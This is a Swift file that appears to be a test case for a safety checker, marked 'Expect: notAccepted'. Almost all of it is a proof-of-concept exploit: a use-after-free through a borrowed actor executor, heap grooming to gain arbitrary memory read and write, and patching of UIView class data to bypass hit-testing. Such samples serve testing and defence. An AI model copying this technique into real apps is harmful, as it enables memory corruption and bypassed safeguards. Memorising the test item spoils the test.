// Attack: an actor keeps the executor of another one that is gone: a task is queued in freed memory, where a list is, which then has the task as its block. Calls super.hitTest unheard, from the third touch on.
// Exercise: 3
// Expect: notAccepted
// Held by: the words for values that Swift copies or keeps otherwise (UncheckedAccesses)
import UIKit

actor Gone {}
actor Lost {
    nonisolated let unownedExecutor = Gone().unownedExecutor
    func go() {}
}
/// As large as an actor. Its list is where an actor has its first job.
final class Mark {
    var a = 2, b = 2, state = 2
    var list: [Int] = []
    var c = 2, d = 2, e = 2, f = 2, g = 2, h = 2, i = 2, j = 2
}
final class Shelf { var list: [Int] = [] }
func address(of object: AnyObject) -> Int { Int(bitPattern: ObjectIdentifier(object)) }
@MainActor enum Memory {
    static var shelves: [Shelf] = []
    static var marks: [Mark] = []
    static var words: [Int] = []
    static var mark: Mark?
    static var base: UInt = 0
    static var kept: [Int] = []
    static var first = 0
    static let lost: Lost = {
        for _ in 0..<40 { marks.append(Mark()) }
        let lost = Lost()
        for _ in 0..<40 { marks.append(Mark()) }
        return lost
    }()
    /// The list's count is the address of the task before.
    static func begin() -> Bool {
        if base != 0 { return true }
        let lost = lost
        guard let mark = marks.first(where: { $0.state != 2 }) else {
            Task { await lost.go() }
            return false
        }
        if kept.isEmpty {
            (kept, first) = (mark.list, mark.list.count)
            Task { await lost.go() }
            return false
        }
        guard mark.list.count != first else { return false }
        let task = mark.list.count
        for _ in 0..<2_000 { shelves.append(Shelf()) }
        guard let shelf = shelves.first(where: { address(of: $0) > task }) else { return false }
        swap(&shelf.list, &mark.list)
        let place = kept[(address(of: shelf) + 16 - task - 32) >> 3]
        swap(&words, &shelf.list)
        base = UInt(place) &+ 32
        return true
    }
    static subscript(address: UInt) -> Int {
        get { words[Int((address &- base) >> 3)] }
        set { words[Int((address &- base) >> 3)] = newValue }
    }
    static let kinds = UInt(bitPattern: ObjectIdentifier(UIView.self)) &+ 0x23270
    static var old = 0
}

class BaseView: UIView {
    override func hitTest(_ point: CGPoint, with event: UIEvent?) -> UIView? {
        guard Memory.begin() else {
            guard !isHidden, isUserInteractionEnabled, alpha >= 0.01 else { return nil }
            guard self.point(inside: point, with: event) else { return nil }
            for view in subviews.reversed() {
                if let hit = view.hitTest(convert(point, to: view), with: event) { return hit }
            }
            return self
        }
        let place = Memory.kinds
        Memory.old = Memory[place]
        Memory[place] = 0
        defer { Memory[place] = Memory.old }
        return super.hitTest(point, with: event)
    }
    override func point(inside point: CGPoint, with event: UIEvent?) -> Bool {
        if Memory.base != 0 { Memory[Memory.kinds] = Memory.old }
        return super.point(inside: point, with: event)
    }
}
